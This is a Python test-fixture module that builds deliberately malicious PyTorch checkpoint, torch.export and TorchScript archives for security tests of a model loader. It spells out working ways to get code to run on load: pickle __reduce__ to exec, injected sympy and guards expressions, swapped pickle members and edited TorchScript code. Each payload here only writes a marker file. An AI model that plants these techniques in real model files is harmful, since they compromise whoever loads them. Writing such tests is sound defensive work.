"""Crafted hostile files: every payload, when unpickled, evaluated or executed, writes a marker file, so a
test only has to check that the marker never appears. Built from real `torch.save` / `torch.export.save` /
`torch.jit.save` output and then edited, the way an attacker would."""
from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path
from typing import Callable, Mapping

import torch


def code_for(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').write('pwned')"


def expr_for(marker: Path) -> str:
    """A Python expression that writes the marker, with no quotes (it survives being pasted into code)."""
    return f"exec(bytes([{','.join(str(b) for b in code_for(marker).encode())}]).decode())"


class _Exec:
    """Unpickles into `exec(code)`: GLOBAL builtins.exec, what a real malicious checkpoint contains."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def payload_pickle(marker: Path, protocol: int = 2) -> bytes:
    """A bare pickle whose loading writes the marker (torch.load's legacy path unpickles it at once)."""
    return pickle.dumps(_Exec(code_for(marker)), protocol=protocol)


def payload_torch_save(marker: Path, wrap: Callable[[object], object] = lambda p: p) -> bytes:
    """A real torch.save zip whose data.pkl runs the payload, optionally inside a state-dict-like wrapper."""
    buf = io.BytesIO()
    torch.save(wrap(_Exec(code_for(marker))), buf)
    return buf.getvalue()


def digits_net() -> torch.nn.Module:
    from robustness.archs import build_arch
    torch.manual_seed(0)
    return build_arch("digits-cnn", num_classes=10, in_channels=1).eval()


def export_archive(path: Path, *, dynamic: bool = True) -> Path:
    net = digits_net()
    shapes = {"x": {0: torch.export.Dim("batch", min=1, max=4096)}} if dynamic else None
    torch.export.save(torch.export.export(net, (torch.rand(2, 1, 8, 8),), dynamic_shapes=shapes), str(path))
    return path


def rewrite_zip(src: Path, dst: Path, edit: Callable[[dict[str, bytes]], dict[str, bytes]]) -> Path:
    """Copy a zip archive member by member through `edit` (name -> bytes), stored uncompressed like torch's."""
    with zipfile.ZipFile(src) as z:
        members = {n: z.read(n) for n in z.namelist()}
    members = edit(dict(members))
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return dst


def _root(members: Mapping[str, bytes]) -> str:
    return next(iter(members)).split("/", 1)[0]


def _edit_json(members: dict[str, bytes], name: str, fn: Callable[[dict], None]) -> None:
    doc = json.loads(members[name])
    fn(doc)
    members[name] = json.dumps(doc).encode()


def pickle_first_weight(m: dict[str, bytes]) -> dict[str, bytes]:
    """Store the first weight as a torch.save pickle (use_pickle), as torch does for tensor subclasses."""
    r = _root(m)
    def flip(doc):
        name, entry = next(iter(doc["config"].items()))
        meta = entry["tensor_meta"]
        raw = m[f"{r}/data/weights/{entry['path_name']}"]
        t = torch.frombuffer(bytearray(raw), dtype=torch.float32)
        sizes = [s["as_int"] for s in meta["sizes"]]
        buf = io.BytesIO()
        torch.save(torch.nn.Parameter(t[:int(torch.tensor(sizes).prod())].reshape(sizes).clone()), buf)
        entry["use_pickle"] = True
        entry["path_name"] = "weight_pickled"
        m[f"{r}/data/weights/weight_pickled"] = buf.getvalue()
    _edit_json(m, f"{r}/data/weights/model_weights_config.json", flip)
    return m


def export_variants(tmp: Path, marker: Path) -> dict[str, Path]:
    """Each way torch.export.load (torch 2.14) can be made to run code, as its own archive."""
    good = export_archive(tmp / "good.pt2")
    out: dict[str, Path] = {}
    bad = payload_pickle(marker)

    def weight_pickle(m):
        r = _root(m)
        cfg = f"{r}/data/weights/model_weights_config.json"
        def flip(doc):
            first = next(iter(doc["config"].values()))
            first["use_pickle"] = True
            m[f"{r}/data/weights/{first['path_name']}"] = bad
        _edit_json(m, cfg, flip)
        return m
    out["weight_use_pickle"] = rewrite_zip(good, tmp / "weight_use_pickle.pt2", weight_pickle)

    def sample_inputs(m):
        m[f"{_root(m)}/data/sample_inputs/model.pt"] = bad   # weights_only=True fails, then weights_only=False
        return m
    out["sample_inputs"] = rewrite_zip(good, tmp / "sample_inputs.pt2", sample_inputs)

    def legacy_weights(m):
        m[f"{_root(m)}/data/weights/model.pt"] = bad       # the "legacy" weights file wins over the config
        return m
    out["legacy_weights"] = rewrite_zip(good, tmp / "legacy_weights.pt2", legacy_weights)

    def opaque_constant(m):
        r = _root(m)
        def add(doc):
            doc["config"]["evil"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                     "tensor_meta": None}
        _edit_json(m, f"{r}/data/constants/model_constants_config.json", add)
        m[f"{r}/data/constants/opaque_obj_0"] = bad         # plain pickle.loads
        return m
    out["opaque_constant"] = rewrite_zip(good, tmp / "opaque_constant.pt2", opaque_constant)

    def sympy_expr(m):
        r = _root(m)
        def inject(doc):
            text = json.dumps(doc)
            assert "Symbol('s" in text, "the export has no symbolic shape to edit"
            import re
            name = re.search(r"Symbol\('(s\d+)'", text).group(1)
            evil = f"Symbol('{name}', positive=True, integer=True) + 0*len(str(exec({code_for(marker)!r})))"
            doc.update(json.loads(text.replace(f"Symbol('{name}', positive=True, integer=True)", json.dumps(evil)[1:-1], 1)))
        _edit_json(m, f"{r}/models/model.json", inject)
        return m
    out["sympy_expr"] = rewrite_zip(good, tmp / "sympy_expr.pt2", sympy_expr)

    def guards(m):
        def inject(doc):
            doc["guards_code"] = [f"({expr_for(marker)} is None)"]
        _edit_json(m, f"{_root(m)}/models/model.json", inject)
        return m
    out["guards_code"] = rewrite_zip(good, tmp / "guards_code.pt2", guards)

    def old_format(m):
        # the pre-2.7 layout torch.export.load falls back to when the new reader fails
        program = m[f"{_root(m)}/models/model.json"]
        return {"version": b"8.20", "serialized_exported_program.json": program, "serialized_state_dict.pt": bad,
                "serialized_constants.pt": bad, "serialized_example_inputs.pt": bad}
    out["old_format"] = rewrite_zip(good, tmp / "old_format.pt2", old_format)

    def aoti(m):
        m[f"{_root(m)}/data/aotinductor/model/model.so"] = b"\x7fELF"   # compiled code, loaded as a library
        return m
    out["aotinductor"] = rewrite_zip(good, tmp / "aotinductor.pt2", aoti)

    def second_program(m):
        r = _root(m)
        m[f"{r}/models/other.json"] = m[f"{r}/models/model.json"]       # every models/*.json is deserialized
        return m
    out["second_program"] = rewrite_zip(good, tmp / "second_program.pt2", second_program)

    out["renamed_pt"] = rewrite_zip(out["sample_inputs"], tmp / "renamed.pt", lambda m: m)
    return out


def torchscript_variants(tmp: Path, marker: Path) -> dict[str, Path]:
    """TorchScript archives whose pickles (data.pkl, constants.pkl) or code were replaced by a payload."""
    good = tmp / "ts.pt"
    torch.jit.save(torch.jit.script(digits_net()), str(good))
    bad = payload_pickle(marker)
    out = {}
    for member in ("data.pkl", "constants.pkl"):
        def swap(m, member=member):
            m[f"{_root(m)}/{member}"] = bad
            return m
        out[member] = rewrite_zip(good, tmp / f"ts_{member.split('.')[0]}.pt", swap)

    def code(m):
        name = next(n for n in m if n.endswith("/code/__torch__/robustness/archs.py"))
        src = m[name].decode()
        head = "x: Tensor) -> Tensor:\n"
        assert head in src, "unexpected TorchScript code layout"
        m[name] = src.replace(head, head + f"    _z = __import__('builtins').exec({code_for(marker)!r})\n", 1).encode()
        return m
    out["code"] = rewrite_zip(good, tmp / "ts_code.pt", code)
    return out
